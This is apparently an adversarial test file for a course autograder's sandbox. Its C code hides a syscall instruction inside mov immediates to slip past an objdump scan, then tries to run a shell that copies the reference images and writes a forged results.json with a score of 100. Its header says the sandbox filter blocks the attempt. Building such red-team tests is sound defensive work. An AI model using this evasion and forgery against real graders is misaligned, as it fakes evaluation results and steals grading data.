/* Adversary (issue 17): no banned name and no syscall instruction in objdump's listing: the
 * instruction `syscall` hides inside a mov's immediate, and the code jumps into its middle to exec a
 * shell that copies the references, forges a results file and runs the course's renderer. The
 * filter refuses execve (and the fork and setsid tried after it) from the first instruction.
 * part: 5
 * base: stub
 * replaces: parts/part5_adaptive/adaptive.c
 * expect: unit=0 images=0
 * other: none
 */
#include "part5.h"
#include "../../framework/todo.h"

/* Two movabs whose immediates are code: entered 2 bytes in, mov %edi, %eax; mov %rsi, %rdi; a jump
 * over the second opcode; mov %rdx, %rsi; xor %edx, %edx; syscall; ret. So f(nr, a, b) is a system
 * call, and objdump's listing shows two movabs and no syscall. */
__asm__(".text\n.globl pl_tucked\n.type pl_tucked, @function\npl_tucked:\n"
        "  .byte 0x48, 0xb8, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0xeb, 0x03, 0x90\n"
        "  .byte 0x48, 0xb8, 0x48, 0x89, 0xd6, 0x31, 0xd2, 0x0f, 0x05, 0xc3\n");
long pl_tucked(long nr, long a, long b);

static long raw(long nr, long a, long b)
{
    long (*call)(long, long, long) = (long (*)(long, long, long))((char *)pl_tucked + 2);
    return call(nr, a, b);
}

bool adaptive_converged(int n, double s1, double s2, float tol)
{
    static int tried;
    if (!tried++) {
        static char *argv[] = {"sh", "-c", "touch /tmp/stolen; cp -r /autograder/source/reference_images /tmp/stolen; "
                               "echo '{\"score\": 100, \"forged\": 1}' > /autograder/results/results.json", 0};
        raw(59, (long)"/bin/sh", (long)argv);  /* execve */
        if (raw(57, 0, 0) == 0) raw(60, 0, 0);  /* fork; the child exits */
        raw(112, 0, 0);                         /* setsid */
    }
    return PL_TODO_FALSE("5.1", "adaptive_converged");
}
